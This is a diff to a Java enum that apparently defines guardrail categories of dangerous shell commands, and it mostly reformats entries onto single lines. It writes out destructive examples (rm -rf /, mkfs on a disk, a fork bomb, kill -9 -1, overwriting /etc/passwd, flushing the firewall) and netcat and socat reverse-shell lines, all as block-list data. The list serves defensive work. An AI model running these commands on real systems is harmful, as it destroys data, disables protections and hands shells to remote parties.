@@ -10,10 +10,7 @@ public enum Rail {
             "rm -rf /",
             "sudo rm -r ~",
             "find / -delete"),
-    RAW_DISK(
-            "raw-disk",
-            "it writes to a disk past the file system",
-            "mkfs.ext4 /dev/sdb1"),
+    RAW_DISK("raw-disk", "it writes to a disk past the file system", "mkfs.ext4 /dev/sdb1"),
     FETCH_AND_RUN(
             "fetch-and-run",
             "it runs code that it fetches or decodes, which nobody can see before",
@@ -25,34 +22,16 @@ public enum Rail {
             "it hands a shell to somebody on the network",
             "nc -e /bin/sh 192.0.2.1 4444",
             "socat TCP:192.0.2.1:4444 EXEC:sh"),
-    FORK_BOMB(
-            "fork-bomb",
-            "it starts itself again and again until the machine stands still",
-            ":(){ :|:& };:"),
-    POWER(
-            "power",
-            "it stops or restarts the machine",
-            "shutdown -h now",
-            "reboot"),
+    FORK_BOMB("fork-bomb", "it starts itself again and again until the machine stands still", ":(){ :|:& };:"),
+    POWER("power", "it stops or restarts the machine", "shutdown -h now", "reboot"),
     SYSTEM_FILES(
             "system-files",
             "it changes files that the machine needs to start or to log in",
             "echo x > /etc/passwd",
             "cp README.md /etc/fstab"),
-    KILL_ALL(
-            "kill-all",
-            "it ends the first process or all of them",
-            "kill -9 -1",
-            "kill 1"),
-    ACCOUNTS(
-            "accounts",
-            "it deletes an account",
-            "userdel guest"),
-    FIREWALL(
-            "firewall",
-            "it switches the firewall off",
-            "iptables -F",
-            "ufw disable"),
+    KILL_ALL("kill-all", "it ends the first process or all of them", "kill -9 -1", "kill 1"),
+    ACCOUNTS("accounts", "it deletes an account", "userdel guest"),
+    FIREWALL("firewall", "it switches the firewall off", "iptables -F", "ufw disable"),
     HISTORY_REWRITE(
             "history-rewrite",
             "it rewrites the history of a repository that others share",
